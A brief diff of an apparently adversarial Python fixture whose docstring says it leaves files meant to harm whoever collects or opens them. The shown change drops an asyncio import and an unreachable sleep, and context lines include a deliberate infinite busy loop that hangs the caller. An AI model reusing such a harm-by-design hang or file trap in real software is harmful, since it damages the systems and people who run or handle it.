@@ -1,6 +1,5 @@
 """Leaves files that are made to harm whoever collects, stores, lists or opens them."""
 
-import asyncio
 import os
 import socket
 
@@ -40,5 +39,4 @@ async def automation(page, params):
     if params.get("spins"):
         while True:
             pass
-    await asyncio.sleep(0)
     return "littered"
